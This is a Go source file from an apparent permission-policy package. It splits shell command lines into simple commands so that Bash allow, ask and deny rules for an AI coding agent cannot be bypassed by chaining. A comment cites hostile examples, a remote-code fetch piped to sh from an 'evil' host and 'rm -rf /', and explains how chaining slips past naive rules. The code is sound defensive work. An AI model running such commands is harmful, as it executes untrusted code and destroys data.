package policy

import (
	"regexp"
	"strings"
)

// A Bash rule read as a plain glob over the whole command line would let
// Bash(npm test:*) allow "npm test && curl evil | sh", and let
// "echo hi; rm -rf /" slip past Bash(rm -rf *). Like Claude Code, rules
// therefore look at each simple command of a compound command: deny and ask
// rules match when any command (or the whole line) matches, allow rules
// only when every command does. This is a screen for the obvious, not a
// shell parser: where the line does something it cannot see through
// (command substitution, subshells, control flow, an open quote), it says
// so, and allow rules then do not match at all.

// shellPrefixWords start a simple command but are not the command: what
// follows them is what runs. Wrappers such as sudo are here too, so that
// "sudo rm -rf /" meets a rule about rm; their options are not parsed.
var shellPrefixWords = []string{"{", "}", "!", "if", "then", "else", "elif", "do", "while", "until", "time",
	"sudo", "env", "nohup", "exec", "command", "builtin"}

// envAssignment is a leading NAME=value, which changes what the command
// does (PATH=., NODE_OPTIONS=--require x) but not which command it is.
var envAssignment = regexp.MustCompile(`^[A-Za-z_][A-Za-z0-9_]*=[^\s'"]*$`)

// shellBlockWords start or end control flow a screen cannot follow.
var shellBlockWords = []string{"for", "case", "select", "function", "fi", "done", "esac", "in"}

// commandParts splits a command line into its simple commands, trimmed. It
// splits on unquoted ; & && | || |& and newlines, and around the insides of
// $( ), <( ), >( ), ( ) and backquotes. opaque reports anything that makes
// the split unreliable.
func commandParts(line string) (parts []string, opaque bool) {
	var cur strings.Builder
	flush := func() {
		s := strings.TrimSpace(cur.String())
		cur.Reset()
		for {
			w, rest, _ := strings.Cut(s, " ")
			switch {
			case containsWord(shellPrefixWords, w), envAssignment.MatchString(w):
				opaque = true
				s = strings.TrimSpace(rest)
				continue
			case containsWord(shellBlockWords, w):
				opaque = true
			}
			break
		}
		if s != "" {
			parts = append(parts, s)
		}
	}
	var single, double bool
	for i := 0; i < len(line); i++ {
		c := line[i]
		switch {
		case single:
			cur.WriteByte(c)
			single = c != '\''
		case double:
			cur.WriteByte(c)
			switch {
			case c == '\\' && i+1 < len(line):
				i++
				cur.WriteByte(line[i])
			case c == '"':
				double = false
			case c == '`', c == '$' && i+1 < len(line) && line[i+1] == '(':
				opaque = true // a substitution inside quotes still runs
			}
		case c == '\\':
			switch {
			case i+1 < len(line) && line[i+1] == '\n':
				cur.WriteByte(' ') // a continued line
				i++
			case i+1 < len(line):
				cur.WriteByte(c)
				i++
				cur.WriteByte(line[i])
			default:
				cur.WriteByte(c)
			}
		case c == '\'':
			single = true
			cur.WriteByte(c)
		case c == '"':
			double = true
			cur.WriteByte(c)
		case c == '&' && (endsWithAny(&cur, "<>") || i+1 < len(line) && line[i+1] == '>'):
			cur.WriteByte(c) // a redirection: 2>&1, >&2, &>file
		case c == ';', c == '&', c == '|', c == '\n', c == '\r':
			flush()
		case c == '(' || c == ')' || c == '`':
			opaque = true
			if c == '(' && endsWithAny(&cur, "$<>") {
				s := cur.String()
				cur.Reset()
				cur.WriteString(s[:len(s)-1])
			}
			flush()
		default:
			cur.WriteByte(c)
		}
	}
	if single || double {
		opaque = true
	}
	flush()
	return parts, opaque
}

func endsWithAny(b *strings.Builder, chars string) bool {
	s := b.String()
	return s != "" && strings.IndexByte(chars, s[len(s)-1]) >= 0
}

func containsWord(words []string, w string) bool {
	for _, x := range words {
		if x == w {
			return true
		}
	}
	return false
}
